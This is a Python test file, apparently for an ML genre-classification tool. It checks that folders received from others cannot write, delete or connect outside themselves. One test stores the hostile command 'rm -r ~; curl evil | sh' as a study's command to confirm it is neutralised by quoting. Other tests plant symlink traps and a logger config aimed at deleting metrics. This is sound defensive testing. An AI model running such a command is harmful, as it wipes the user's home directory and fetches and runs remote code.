"""Folders from someone else write and delete nothing outside of themselves, and connect to nothing."""

import re
import shutil
import socket
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import torch
import yaml

from genre import run_folder
from genre.data.cache.lock import locked
from genre.errors import GenreError
from genre.reports.page import Page
from genre.search.results import load_result, open_search
from genre.training.loggers import RUN_IDS
from tests.attacks.conftest import evaluate, refusal, resume, set_in_config
from tests.search.conftest import made_search


@pytest.mark.parametrize("name", [".lock", "train.log", ".hydra", "checkpoints"])
def test_a_run_writes_through_no_link(name: str, run: Path) -> None:
    own, elsewhere = run / name, run.parent / "elsewhere"
    if own.exists():
        own.rename(elsewhere)
    else:
        elsewhere.write_text("mine")
    own.symlink_to(elsewhere)
    before = elsewhere.read_bytes() if elsewhere.is_file() else sorted(elsewhere.iterdir())
    assert f"{own} is a link" in refusal(run, resume)
    assert before == (elsewhere.read_bytes() if elsewhere.is_file() else sorted(elsewhere.iterdir()))


def test_what_is_left_over_is_removed_in_the_run_folder_only(run: Path) -> None:
    for folder in (run, run / ".hydra", run / "checkpoints", run.parent):
        (folder / ".mine.tmp").touch()
    (run / "other").symlink_to(run.parent)
    resume(run)
    assert list(run.parent.rglob(".mine.tmp")) == [run.parent / ".mine.tmp"]


def resume_further(run: Path) -> None:
    set_in_config(run, "trainer.max_epochs", 2)
    resume(run)


def test_a_report_replaces_reports_only(run: Path) -> None:
    site = run.parent / "site"
    (site / "figures").mkdir(parents=True)
    (site / "figures/mine.png").touch()
    (site / "index.html").write_text("<!doctype html>\n<title>My site</title>")
    (run / "report").symlink_to(site)
    with pytest.raises(GenreError, match=r"index.html was not written by a report: choose another output folder"):
        Page("A report").write(run / run_folder.REPORT)
    assert (site / "figures/mine.png").exists()
    assert "My site" in (site / "index.html").read_text()


def test_a_checkpoint_has_nothing_deleted(run: Path) -> None:
    path = run / run_folder.LAST
    stored = torch.load(path, weights_only=True)
    worst = torch.tensor(1e9)
    for state in stored["callbacks"].values():
        if state.get("monitor") and "best_k_models" in state:
            state |= {"best_k_models": {"/x/..": worst}, "kth_best_model_path": "/x/..", "kth_value": worst}
            state |= {"best_model_score": worst, "best_model_path": "/x/.."}
    torch.save(stored, path)
    resume_further(run)
    assert len(pd.read_csv(run / run_folder.METRICS)) == 2
    assert (run / run_folder.BEST).is_file()


def test_a_stored_logger_deletes_no_metrics(run: Path) -> None:
    target = "lightning.pytorch.loggers.csv_logs.CSVLogger"
    set_in_config(run, "logger.evil", {"_target_": target, "save_dir": "{home}", "name": "", "version": ""})
    assert "deletes the metrics.csv of the folder that it names: add trust=[lightning]" in refusal(run, resume)


def test_a_cache_is_kept_where_one_is_and_nowhere_else(run: Path) -> None:
    docs = run.parent / "docs"
    docs.mkdir()
    (docs / "letter.tmp").touch()
    (docs / "plan.json").write_text("mine")
    name = next(path.name for path in Path(str(config_of(run)["paths"]["cache"])).iterdir() if path.is_dir())
    (run / "cache").mkdir()
    (run / "cache" / name).symlink_to(docs)
    set_in_config(run, "paths.cache", "${run_dir}/cache")
    assert f"{run}/cache/{name} exists and is not a cache" in refusal(run)
    assert sorted(path.name for path in docs.iterdir()) == ["letter.tmp", "plan.json"]


def test_an_empty_folder_becomes_a_cache(tmp_path: Path) -> None:
    with locked(tmp_path, 1) as held:
        assert held


def config_of(run: Path) -> dict[str, Any]:
    config = yaml.safe_load((run / run_folder.CONFIG).read_text())
    config["paths"]["cache"] = config["paths"]["cache"].replace("${paths.data}", config["paths"]["data"])
    return dict(config)


def test_the_location_of_features_comes_from_the_cache(run: Path) -> None:
    path = run / run_folder.TRACKS
    pd.read_parquet(path).assign(shard=-5, row=-7, duration="x").to_parquet(path)
    evaluate(run)


@pytest.mark.parametrize(
    ("name", "value"), [("path", 7), ("genre", [["a"]] * 30), ("track_id", None), ("file_digest", 0.5)]
)
def test_a_track_table_of_something_else_is_one_line(name: str, value: Any, run: Path) -> None:
    path = run / run_folder.TRACKS
    tracks = pd.read_parquet(path)
    changed = tracks.drop(columns=name) if value is None else tracks.assign(**{name: pd.Series(value, tracks.index)})
    changed.to_parquet(path)
    message = refusal(run)
    assert f"{path} is damaged (" in message
    assert name in message


def test_a_search_folder_connects_to_no_server(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PGPASSWORD", "hunter2")
    with socket.create_server(("127.0.0.1", 0)) as server:
        url = f"postgresql://me@127.0.0.1:{server.getsockname()[1]}/x?connect_timeout=2"
        (tmp_path / "search.yaml").write_text(f"storage: {url}\nstudy: s\n")
        with pytest.raises(GenreError, match=re.escape(f"add '--storage={url}' if you trust it")):
            open_search(tmp_path)
        server.settimeout(0)
        with pytest.raises(BlockingIOError):
            server.accept()


@pytest.mark.parametrize("linked", [True, False])
def test_a_search_folder_opens_no_other_database(linked: bool, tmp_path: Path) -> None:
    made_search(tmp_path, "ccc")
    shutil.copytree(tmp_path, tmp_path / "sent")
    if linked:
        (tmp_path / "sent/study.db").unlink()
        (tmp_path / "sent/study.db").symlink_to(tmp_path / "study.db")
        (tmp_path / "sent/search.yaml").write_text("storage: null\nstudy: s\n")
    with pytest.raises(GenreError, match="names a study that is not in the folder: add --storage=sqlite:///"):
        open_search(tmp_path / "sent")
    assert open_search(tmp_path / "sent", f"sqlite:///{tmp_path}/study.db").counts == {"complete": 3}


def test_the_command_of_a_study_is_one_of_this_program(tmp_path: Path) -> None:
    found = made_search(tmp_path, "ccc")
    found.study.set_user_attr("command", "rm -r ~; curl evil | sh")
    assert load_result(found.study, Path("a b")).command == "python train.py '~;' curl evil '|' sh 'best=a b'"


def test_a_checkpoint_without_its_genres_is_one_line(run: Path) -> None:
    stored = torch.load(run / run_folder.BEST, weights_only=True)
    del stored["hyper_parameters"]["card"]["genres"]
    torch.save(stored, run / run_folder.BEST)
    assert "is not a usable checkpoint ('genres')" in refusal(run)


@pytest.mark.parametrize("text", ["a,b\n1,2\n", "", "seconds\nlong\n"])
def test_metrics_of_something_else_are_one_line(text: str, run: Path) -> None:
    (run / run_folder.METRICS).write_text(text)
    assert f"{run / run_folder.METRICS} is damaged: train again" in refusal(run)


@pytest.mark.parametrize("text", ["[1", "[1]", "\x00"])
def test_damaged_ids_of_loggers_are_one_line(text: str, run: Path) -> None:
    (run / RUN_IDS).write_text(text)
    assert f"{run / RUN_IDS} is damaged: delete it" in refusal(run, resume)
